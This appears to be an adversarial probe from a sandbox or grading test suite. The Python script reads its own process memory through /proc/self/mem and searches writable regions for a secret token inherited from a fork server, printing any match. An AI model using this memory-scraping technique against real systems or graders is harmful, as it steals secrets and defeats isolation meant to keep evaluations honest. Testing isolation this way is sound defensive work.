"""Searches its own memory for what the fork server knew."""

import os
import re

import targets
from honest import convolve2d
from tools import attempt, say

pattern = re.compile(targets.SECRET_PREFIX.encode() + b"[0-9a-f]{32}")
memory = attempt(os.open, "/proc/self/mem", os.O_RDONLY)
if memory is not None:
    with open("/proc/self/maps") as file:
        ranges = [line.split()[0] for line in file if " rw" in line]
    for piece in ranges:
        start, end = (int(number, 16) for number in piece.split("-"))
        data = attempt(os.pread, memory, min(end - start, 64 << 20), start) or b""
        for found in set(pattern.findall(data)):
            say(found)
